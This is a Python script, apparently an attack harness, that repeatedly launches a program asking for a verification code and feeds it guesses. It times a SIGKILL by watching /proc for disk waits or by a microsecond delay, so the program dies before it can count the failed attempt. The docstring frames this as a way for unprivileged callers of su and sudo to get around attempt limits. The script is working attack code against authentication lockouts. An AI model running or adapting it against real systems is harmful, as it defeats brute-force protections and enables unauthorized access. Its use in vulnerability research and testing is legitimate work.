#!/usr/bin/python3
"""Guess codes of a program that asks for one, and kill it before it can count them. Needs no root, as callers of su and
sudo have none: they may kill what they started, and see in /proc when it waits for the disk.

usage: attack.py PROGRAM [ARGUMENT...]

Each round reads "CODE disk N", to kill it when it waits for the disk for the Nth time, "CODE after N", to kill it after N
microseconds, or "CODE never"; says "asked PID" once it is asked for the code; reads an empty line, types the code, and
says "killed" or "ended STATUS".
"""
import os
import signal
import subprocess
import sys
import time

PROMPT = b"Verification code: "


def waits_for_disk(stat):
    try:
        return os.pread(stat, 512, 0).rpartition(b") ")[2][:1] == b"D"
    except ProcessLookupError:
        return False


def moment(stat, ended, how, count):
    """Waits for the time to kill; whether it comes."""
    start, waited = time.monotonic_ns(), False
    while not ended():
        if how == "after" and time.monotonic_ns() - start >= 1000 * count:
            return True
        if how == "disk":
            waits = waits_for_disk(stat)
            count -= waits and not waited
            waited = waits
            if count == 0:
                return True
    return False


def attack(program, code, how, count):
    victim = subprocess.Popen(program, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)
    said = b""
    while not said.endswith(PROMPT):
        byte = victim.stdout.read(1)
        if not byte:
            sys.exit(f"no prompt: {said!r}")
        said += byte
    stat = os.open(f"/proc/{victim.pid}/stat", os.O_RDONLY)
    print("asked", victim.pid, flush=True)
    sys.stdin.readline()
    victim.stdin.write(code.encode() + b"\n")
    victim.stdin.close()
    # Gone, but for whom it belongs to.
    ended = lambda: os.waitid(os.P_PID, victim.pid, os.WEXITED | os.WNOHANG | os.WNOWAIT) is not None
    killed = moment(stat, ended, how, count)
    if killed:
        os.kill(victim.pid, signal.SIGKILL)
    status = victim.wait()
    victim.stdout.close()
    os.close(stat)
    print("killed" if status == -signal.SIGKILL else f"ended {status}", flush=True)


for line in sys.stdin:
    code, how, *count = line.split()
    attack(sys.argv[1:], code, how, int(count[0]) if count else 0)
